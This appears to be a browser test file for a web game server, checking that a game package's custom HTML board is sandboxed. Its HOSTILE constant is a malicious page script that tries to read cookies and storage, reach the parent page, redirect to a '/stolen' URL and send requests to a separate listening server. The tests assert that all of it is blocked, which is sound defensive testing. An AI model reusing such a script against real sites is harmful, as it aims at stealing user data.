"""A board that a game's package brings along: it plays, and it can reach nothing."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Inviting
from tests.browser.house import House, pages
from tests.browser.visitor import Visitor

HOSTILE = """<!doctype html><meta charset="utf-8"><p id="told">nothing yet</p>
<img src="http://localhost:{port}/picture"><link rel="stylesheet" href="http://localhost:{port}/style">
<script>
"use strict";
const tried = {{}};
const attempt = (name, act) => {{
  try {{ tried[name] = String(act()); }} catch (e) {{ tried[name] = e.name; }}
}};
attempt("storage", () => localStorage.length);
attempt("session", () => sessionStorage.length);
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.title);
attempt("address", () => parent.location.href);
attempt("top", () => {{ top.location = "http://localhost:{port}/stolen"; return "gone"; }});
attempt("window", () => open("http://localhost:{port}/stolen"));
attempt("database", () => indexedDB.open("afterdark").onerror);
attempt("worker", () => new Worker("data:text/javascript,1").onerror);
attempt("eval", () => new Function("return 1")());
const far = [
  ["fetch", () => fetch("http://localhost:{port}/fetch", {{ mode: "no-cors" }})],
  ["socket", () => new Promise((good, bad) => {{
    const socket = new WebSocket("ws://localhost:{port}/socket");
    socket.onopen = good; socket.onerror = () => bad(new Error("no"));
  }})],
  ["script", () => import("http://localhost:{port}/script")],
  ["beacon", async () => navigator.sendBeacon("http://localhost:{port}/beacon")],
];
addEventListener("message", async (event) => {{
  for (const [name, act] of far) tried[name] = await act().then(() => "reached", () => "nothing");
  document.getElementById("told").textContent = JSON.stringify(tried);
  for (const said of [-1, 1e9, 0.5, "0", {{ choose: 0 }}, [0], "play", null])
    parent.postMessage(said, "*");
  parent.postMessage("shown", "*");
}});
</script>"""
SILENT = "<!doctype html><p>This board has nothing to say.</p>"
LOUD = """<!doctype html><script>
addEventListener("message", () => {
  parent.postMessage("shown", "*");
  for (let n = 0; n < 100; n += 1) parent.postMessage("noise", "*");
});
</script>"""


def nightcap(place: Path, root: Path, board: str = "") -> Path:
    """Nightcap as pip would leave it, with another board if one is named."""
    shutil.copytree(root / "examples" / "nightcap" / "src" / "nightcap", place / "nightcap")
    info = place / "nightcap-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: nightcap\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[afterdark.games]\nnightcap = nightcap:GAME\n")
    if board:
        (place / "nightcap" / "board.html").write_text(board, encoding="utf-8")
    return place


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, root: Path) -> Iterator[House]:
    """A server that has Nightcap."""
    place = tmp_path_factory.mktemp("packages")
    nightcap(place, root)
    running = House(
        tmp_path_factory.mktemp("nightcap"),
        AFTERDARK_PAGES=str(pages(root)),
        PYTHONPATH=f"{place}:{root}",
    )
    running.place = place  # type: ignore[attr-defined]
    running.start()
    yield running
    running.stop()


def board_of(house: House, text: str) -> None:
    """Give Nightcap another board: a server reads it anew for everybody who asks."""
    place: Path = house.place  # type: ignore[attr-defined]
    (place / "nightcap" / "board.html").write_text(text, encoding="utf-8")


def sit_down(visitor: Visitor) -> Page:
    """A table of Nightcap against bots."""
    return visitor.play_now("nightcap").page


def test_a_game_is_played_on_the_board_it_brings(
    served: House, inviting: Inviting, luck: str, root: Path
) -> None:
    board_of(served, (root / "examples/nightcap/src/nightcap/board.html").read_text("utf-8"))
    with inviting(luck, f"http://localhost:{served.port}") as come:
        visitor = come()
        page = sit_down(visitor)
        board = page.frame_locator("iframe[sandbox='allow-scripts']")
        expect(board.get_by_text("In the cup")).to_be_visible()
        while not visitor.wait_for_turn():  # bots may find all vampires before it is my turn
            sit_down(visitor)
        question = visitor.question()
        board.get_by_role("button").first.click()
        visitor.until(lambda: visitor.question() != question, "what was chosen on the board")
        assert page.get_by_text("does not answer").count() == 0


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[str]]]:
    """Somebody who waits elsewhere for what a board sends: the port, and what has come."""
    came: list[str] = []

    class Waiting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            came.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("localhost", 0), Waiting)
    Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port, came
    server.shutdown()
    server.server_close()


def test_a_hostile_board_reaches_nothing(
    served: House, inviting: Inviting, luck: str, elsewhere: tuple[int, list[str]]
) -> None:
    port, came = elsewhere
    board_of(served, HOSTILE.format(port=port))
    with inviting(luck, f"http://localhost:{served.port}") as come:
        visitor = come()
        page = sit_down(visitor)
        told = page.frame_locator("iframe").locator("#told")
        expect(told).not_to_have_text("nothing yet")
        tried = json.loads(told.inner_text())
        for what in ("storage", "session", "cookie", "parent", "address", "top", "database"):
            assert tried[what] == "SecurityError", (what, tried)
        assert tried["window"] == "null"
        assert tried["eval"] == "EvalError"
        assert {tried[what] for what in ("fetch", "socket", "script")} == {"nothing"}
        assert came == []
        assert page.url.startswith(f"http://localhost:{served.port}/t/")
        # What it said was no choice, and its page is still there: it says no more than it may.
        assert visitor.question()
        assert page.locator("iframe").count() == 1


@pytest.mark.parametrize("board", [SILENT, LOUD], ids=["silent", "loud"])
def test_a_broken_board_gives_way_to_the_plain_one(
    served: House, inviting: Inviting, luck: str, board: str
) -> None:
    board_of(served, board)
    with inviting(luck, f"http://localhost:{served.port}") as come:
        visitor = come()
        page = sit_down(visitor)
        expect(page.get_by_role("status").get_by_text("does not answer")).to_be_visible()
        assert page.locator("iframe").count() == 0
        expect(page.get_by_text("In the cup")).to_be_visible()
